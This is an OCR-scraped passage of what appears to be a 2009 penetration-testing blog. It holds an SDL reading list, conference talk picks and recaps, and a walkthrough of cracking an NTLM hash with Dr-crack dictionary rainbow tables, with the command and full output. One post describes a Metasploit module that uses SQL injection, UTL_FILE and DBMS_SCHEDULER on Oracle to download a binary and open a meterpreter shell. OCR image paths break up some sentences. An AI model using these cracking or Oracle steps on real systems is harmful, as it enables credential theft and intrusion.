Microsoft SDL and Software Security Information:Microsoft’s SDL Home Page

Microsoft’s Threat Modeling Tool

Microsoft’s Security Intelligence Reports and Malware Protection Group

Here are just a few books I have read or keep available in my library:

Coding Standards and SDL Practices

M. Howard and D. LeBlanc, Writing Secure Code, ed. 2. Redmond: Microsoft Press, 2003.

M. Howard and S. Lipner, The Security Development Lifecycle. Redmond: Microsoft Press, 2006.

G. McGraw, Software Security Building Security In. Upper Saddle River: Addison Wesley, 2006.

Software Testing and Assessment

G. McGraw and G. Hoglund, Exploiting Software How to Break Code. Boston: Addison Wesley, 2003.

M. Sutton, A. Green, and P. Amini, Fuzzing Brute Force Vulnerability Discovery. Upper Saddle River: Addison Wesley, 2007.

M. Down, J. McDonald, and J. Shuh, The Art of Software Security Assessment Identifying and Preventing Vulnerabilities. Upper Saddle River: Addison Wesley, 2007.


1. C. Peterson. “Windows 7 Security Overview.” XCon2008 XFocus Information Security Conference. November, 2008.

2. RTI. “Planning Report 02-3: The Economic Impacts of Inadequate Infrastructure for Software Testing (2009).” NIST [Online], Available,

3. Walt. “Cost of a Security Breach (2009).” PCI DSS News and Information [Online]. Available,

4. “2008 Annual Study: Cost of a Data Breach (2009).” Ponemon Institute. [Online]. Available,

5. J. Jones, H1 2008 Desktop OS Vendor Report (2009). [Online], Available,

6. Microsoft Security Intelligence Report volume 5 (January – June 2008) (2009). Microsoft [Online]. Available,

7. K. Poulsen. “Fannie Mae Logic Bomb Would Have Caused Weeklong Shutdown (2009).” Wired [Online], Available,

Post originates from here.

Saturday, February 14, 2009

Dictionary Based Rainbow Tables with Dr-crackAfter Matt Weir's shmoocon talk I got motivated to generate and play with some dictionary based rainbow tables with Dr-crack. Why... I don't know, I pass the hash for everything now, and

"Dictionary based rainbow tables, such as those generated by drcrack, on the other hand allow you to create pre-generated hash tables based on dictionary words and common word mangling rules, such as "P@ssword12".

Plus it's less "magic" when I say I cracked the passwords versus just passing the hash, passing the hash still seems to be magic to alot of people. Plus, as Matt Carpenter pointed out to me, you cant log into Terminal Services/RDP with a hash :-)

So I went to the website and downloaded the .tar, extracted, and typed make all and got thefollowing error.

cg@notBT:~/evil/drcrack/shmoocon_submit$ make all make: *** No rule to make target `Public.o', needed by `drtgen'. Stop.

The issue ended up being public.cpp which needed to be named Public.cpp. rename the file and you should be good to go.

You can run ./dr_rules to alter either the basic_rules file or the keyboard_rules file but to get started I just used the default keyboard rules, dictionary, and table that they generated.

I changed a password in a VM to a keyboard combo (but still a 10 character password) that I was sure was in the dictionary and dumped the hashes.

then I ran the tool: (usage was here:

cg@notBT:~/evil/drcrack/shmoocon_submit$ ./drcrack -d /home/cg/evil/drcrack/keyboard_basic/keyboard_map.cfg -h 0D757AD173D2FC249CE19364FD64C8EC
Processing mangling rules
special=[>!@#$%^&*()_+\-=?.,/\\":; ] size=26lower=[abcdefghijklmnopqrstuvwxyz] size=26
number=[0123456789] size=10
Reading in the dictionary
Dictionary Size = 658
Calculating rule and index size
Figuring out Rule Size
Index Size for rule 0 is=658
Index Size for rule 1 is=432964
Index Size for rule 2 is=284890312
the total Size=285323934
reading chunk...
83888 bytes read, disk access time: 0.00 s
verifying the file...
searching for 1 hash...
cryptanalysis time: 6.93 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.25 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.38 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.12 s
reading chunk...83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.04 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.03 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.14 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.17 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.02 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.01 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.06 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.17 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.70 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.05 sreading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.05 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
cryptanalysis time: 0.22 s
reading chunk...
83888 bytes read, disk access time: 0.00 ssearching for 1 hash...
cryptanalysis time: 0.03 s
reading chunk...
83888 bytes read, disk access time: 0.00 s
searching for 1 hash...
plaintext of 0d757ad173d2fc249ce19364fd64c8ec is qwertyuiop
cryptanalysis time: 0.03 s

plaintext found: 1 of 1 (100.00%)
total disk access time: 0.00 s
total cryptanalysis time: 9.40 s
total chain walk step: 2876401
total false alarm: 1451
total chain walk step due to false alarm: 1253346

0d757ad173d2fc249ce19364fd64c8ec qwertyuiop hex:71776572747975696f70

Overall not bad, in less than 10 seconds I found a password that would have been in a pretty big NTLM table otherwise.

I'm sure more posts are forthcoming...

Friday, February 13, 2009

BlackHat D.C. picks

still recovering from shoulder surgery and have been checking out the BlackHat D.C Agenda. Unlike last year for BlackHat USA I actually have a ticket this year so its not just wishful thinking. So here's what I plan on checking out.

Day 1

10:00 - 11:15
Reversing and Exploiting Wireless Sensors
Travis GoodspeedToss up between

11:30 - 12:45
Windows Vista Security Internals
Michael Muckin


11:30 - 12:45
Let Your Mach-0 Fly
Vincenzo Iozzo

will probably decide on which one has seats that dont suck.

13:45- 15:00
Attacking Intel® Trusted Execution Technology
Joanna Rutkowska and Rafal Wojtczuk

15:15 - 16:30
A Wolf in Sheep's Clothing: The Dangers of Persistent Web Browser Storage
Michael Sutton

16:45 - 18:00
SQL Server Anti-Forensics
Cesar Cerrudo

Day 209:00 - 09:50
Dissecting Web Attacks
Val Smith and Colin Ames

10:00 - 11:15
dont know yet, probably the flash one

11:30 - 12:45
Defending Your DNS in a Post-Kaminsky World
Paul Wouters

13:45 - 15:00
dont know yet, probably TOR one

15:15 - 16:30
The Forensic Investigation of a CompromisedOracle Database Server

David Litchfield

16:45 - 18:00
Snort My Memory
Peter Silberman

Is there a talk better than what I picked? let me know!

Monday, February 9, 2009

Shmoo & the 'con within a con'

DC is a blast as always! Hanging and catching up with everyone is always a good time. I met a bunch of folks for the first time too, put names to faces and saw a lot of old friends too.

I'm not going to give a review or opinion of any of the presentations as cg has already done that. I really did not attend that many either to be honest. :) It's becoming more and more apparent to me that the true value of the cons are in the opportunity to network and bounce ideas off your peers.Walking around I saw small clustersof people everywhere. All talking and sharing ideas and information. A group of us all got together in on of the hotel rooms. A few of the guys broke out their laptops and showed some research and work that by far was the coolest stuff I saw the whole weekend. cg redid his Oracle stuff and it was really cool to brainstorm and come up with ideas to extend the apps, concepts and P0C's that were presented by everyone.

I'm sure that we were not the only guys that were doing this too. These 'cons within cons' are, in my view, a great byproduct of the con itself and I'm looking forward to next one for that reason alone.
dean de beer

Sunday, February 8, 2009

Oracle FTP Script Write/Binary Download/Execute via Oracle Packages Video

Metasploit Auxiliary module for Oracle FTP Script Write/Binary Download/Execute via Oracle Packages.

As DBA (yea for SQLI) we use UTL_FILE to write out our FTP download script, using DBMS_SCHEDULER we create a job to run the script to download our binary and create a 2nd job to execute our binary and get our meterpreter shell. Oracle...Unbreakable.

I got the "how to do it" from Red-Database-Securitycheck MC's video (requires java) on getting those DBA privs on an 11g box.

No code yet unless you email me and say you'll actually test it. Right now its in the "works forme" status but if you want to try it out on some other Oracle versions give me a shout. It wont work on 9 but should work on 10 & 11.

Metasploit Auxiliary module for Oracle FTP Script Write/Binary Download/Execute via Oracle Packages from carnal0wnage on Vimeo.

Shmoocon Day 2 & 3

Shmoocon is over, according to twitter good times were had by all.

I missed a few talks I wanted to see due to it being too crowded in alot of them and also me not getting my butt in gear on Saturday morning.

So what I did catch.

Zero_Chaos' talk on 802.11 ObgYn or "Spread YourSpectrum" which was about his updated drivers to open up some wifi ranges that were only not accessible because of software driver limitations. very good talk.

Enno Rey and Daniel Mende's talk on All your packets are belong to us - Attacking backbone technologies was interesting but I had to leave par tof the way through.

I unfortunately missed Dave Kennedy's talk on Fast-track that I really wanted to see.

Sunday morning I caught Matt Weir's Enough with the Insanity: Dictionary Based Rainbow Tables. He talked about optimizing the rainbow crack code to be able to do some "smart" rainbow table generation. Tool site: & blog

Lastly Chris Padget completely demoralized Electronic Drivers License and US Passport Cards, I mean slapped around, spanked, sent to bed without dinner. Great presentation. Really layed out all the reason the technology iswrong for what they are trying to do and how really really wrong the implementation is...ouch.

On other fronts. Dean was there so its always good to hang with Dean. I redid the Oracle talk in my room to some people and got some really good feedback and some things to work on for future functionality.

I also got to put tons of faces to names so shout outs to all the people that I met at shmoo for the first time (too many to list).

Saturday,February 7, 2009

ShmooCon Day 1 wrap up

So quick wrap up on Day 1.

The only talks I caught were the end of the smart key one, which seemed cool and the Watching the Watchers one by the cadets. It was good, not overly technical, but still good.

